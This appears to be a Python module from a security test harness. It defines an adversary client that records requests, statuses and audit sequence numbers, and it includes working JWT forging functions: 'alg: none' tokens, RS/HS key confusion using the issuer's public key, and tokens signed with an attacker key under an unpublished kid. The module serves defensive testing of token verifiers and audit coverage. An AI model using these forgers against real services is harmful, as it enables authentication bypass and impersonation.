"""The adversary of the attack library (issue 11): a client that sends real requests and keeps a
record of every step (what it sent where, when, the HTTP status it got back and the audit sequence
numbers around it), so an attack's outcome is measured from what the systems answered and logged.

It decides nothing about the outcome: a step succeeds or fails only by the target's answer. It
never writes to the audit log itself (whether the platform saw a step is what ``audit_complete``
measures) and never logs a token — only step names, targets and statuses.

It also holds the forging tools of the forged-JWT attack (RFC 7515 / RFC 8725 §2.1 and §3.1
pitfalls): an unsecured JWT (``alg: none``), the RS/HS key confusion (HMAC keyed with the issuer's
*public* key) and a token signed with the attacker's own key under a ``kid`` the issuer never
published. These are plain encoders over the JWS compact serialization; whether any verifier
accepts them is up to the verifier.
"""

from __future__ import annotations

import hashlib
import hmac
import json
from collections.abc import Awaitable, Callable
from typing import Any

import attrs
import structlog

from actors.runtime.context import Runtime
from actors.runtime.network import Unreachable
from protocols.http import HttpRequest, HttpResponse, MalformedBody
from protocols.jose.encoding import b64url_decode, b64url_encode
from protocols.jose.keys import SigningKey

MCP_ACCEPT = "application/json, text/event-stream"


@attrs.frozen(kw_only=True)
class Step:
    """One adversary request: ``seq_before``/``seq_after`` bracket the audit entries it caused."""

    name: str
    target: str
    method: str
    time: float
    seq_before: int
    seq_after: int
    status: int
    """HTTP status; 0 if nothing answered."""
    error: str | None = None
    """The OAuth / JSON-RPC error code in the answer, if any."""

    @property
    def ok(self) -> bool:
        return 200 <= self.status < 300 and self.error is None


def _error_of(response: HttpResponse) -> str | None:
    try:
        body = response.json()
    except (MalformedBody, ValueError):
        body = None
    if isinstance(body, dict):
        if isinstance(body.get("error"), str):
            return body["error"]
        if isinstance(body.get("error"), dict):  # JSON-RPC error object
            return f"rpc:{body['error'].get('code')}"
    challenge = response.header("www-authenticate") or ""
    if 'error="' in challenge:
        return challenge.split('error="', 1)[1].split('"', 1)[0]
    return None if response.status < 400 else f"http_{response.status}"


@attrs.define(eq=False)
class Adversary:
    """``name`` is how this adversary appears in the run's structured log (never in the audit log)."""

    runtime: Runtime
    name: str = "adversary"
    steps: list[Step] = attrs.field(factory=list)

    @property
    def _log(self) -> Any:
        return structlog.get_logger().bind(actor=self.name)

    @property
    def started_at(self) -> float | None:
        return self.steps[0].time if self.steps else None

    async def send(self, name: str, request: HttpRequest) -> HttpResponse:
        """Send one request and record the step (the target's answer decides its outcome)."""
        before = self.runtime.audit.store.last()[0]
        now = self.runtime.clock.now_float()
        try:
            response = await self.runtime.network.send(request)
        except Unreachable:
            response = HttpResponse(status=0, headers=(), body=b"")
        step = Step(name=name, target=request.url.split("?", 1)[0], method=request.method, time=now,
                    seq_before=before, seq_after=self.runtime.audit.store.last()[0], status=response.status,
                    error=_error_of(response) if response.status else "unreachable")
        self.steps.append(step)
        self._log.warning("adversary.step", step=name, target=step.target, status=step.status, error=step.error)
        return response

    async def attempt(self, name: str, *, target: str, work: Callable[[], Awaitable[tuple[int, str | None, Any]]],
                      method: str = "POST") -> Any:
        """A step made through a client the adversary controls (e.g. a compromised agent's own
        client code): ``work`` returns (HTTP status, error code or None, value); the value is returned."""
        before = self.runtime.audit.store.last()[0]
        now = self.runtime.clock.now_float()
        status, error, value = await work()
        step = Step(name=name, target=target, method=method, time=now, seq_before=before,
                    seq_after=self.runtime.audit.store.last()[0], status=status, error=error)
        self.steps.append(step)
        self._log.warning("adversary.step", step=name, target=target, status=status, error=error)
        return value

    async def bearer(self, name: str, *, method: str, url: str, token: str,
                     payload: Any = None) -> HttpResponse:
        """A resource request with ``Authorization: Bearer <token>`` (RFC 6750 §2.1)."""
        headers = {"authorization": f"Bearer {token}", "accept": "application/json"}
        if payload is None:
            request = HttpRequest(method=method, url=url, headers=headers, body=b"")
        else:
            request = HttpRequest(method=method, url=url, headers={**headers, "content-type": "application/json"},
                                  body=json.dumps(payload).encode())
        return await self.send(name, request)

    async def mcp_read(self, name: str, *, url: str, token: str, uri: str) -> HttpResponse:
        """One MCP ``resources/read`` JSON-RPC call (stateless streamable HTTP) with a bearer token."""
        message = {"jsonrpc": "2.0", "id": len(self.steps) + 1, "method": "resources/read", "params": {"uri": uri}}
        return await self.send(name, HttpRequest.json_post(
            url=url, payload=message, headers={"authorization": f"Bearer {token}", "accept": MCP_ACCEPT}))

    async def token_request(self, name: str, *, url: str, params: dict[str, str],
                            headers: dict[str, str] | None = None) -> HttpResponse:
        return await self.send(name, HttpRequest.form_post(url=url, params=params, headers=headers or {}))


def mcp_contents(response: HttpResponse) -> list[str]:
    """The text contents of a successful MCP ``resources/read`` answer (empty on any error)."""
    if response.status != 200:
        return []
    try:
        body = response.json()
    except (MalformedBody, ValueError):
        return []
    result = body.get("result") if isinstance(body, dict) else None
    if not isinstance(result, dict):
        return []
    return [c.get("text", "") for c in result.get("contents", []) if isinstance(c, dict)]


# ------------------------------------------------------------------ forging (RFC 8725 §2.1, §3.1)

def _segments(header: dict[str, Any], claims: dict[str, Any]) -> str:
    return (b64url_encode(json.dumps(header, separators=(",", ":")).encode()) + "."
            + b64url_encode(json.dumps(claims, separators=(",", ":")).encode()))


def claims_of(token: str) -> tuple[dict[str, Any], dict[str, Any]]:
    """Header and claims of a JWS compact token, unverified (the adversary only reads them)."""
    header, payload = token.split(".")[:2]
    return json.loads(b64url_decode(header)), json.loads(b64url_decode(payload))


def forge_unsecured(claims: dict[str, Any], *, typ: str = "at+jwt") -> str:
    """``alg: none`` with an empty signature (RFC 7519 §6)."""
    return _segments({"alg": "none", "typ": typ}, claims) + "."


def forge_hmac_with_public_key(claims: dict[str, Any], *, public_key_bytes: bytes, kid: str,
                               typ: str = "at+jwt") -> str:
    """HS256 keyed with the issuer's public key bytes (the RS/HS "key confusion" of RFC 8725 §2.1)."""
    signing_input = _segments({"alg": "HS256", "typ": typ, "kid": kid}, claims)
    mac = hmac.new(public_key_bytes, signing_input.encode(), hashlib.sha256).digest()
    return signing_input + "." + b64url_encode(mac)


def forge_with_own_key(claims: dict[str, Any], *, key: SigningKey, kid: str, typ: str = "at+jwt") -> str:
    """Signed correctly, but with the attacker's key under a ``kid`` the issuer never published."""
    header = {"alg": key.alg.value, "typ": typ, "kid": kid}
    signing_input = _segments(header, claims)
    return signing_input + "." + b64url_encode(key.sign(signing_input.encode()))
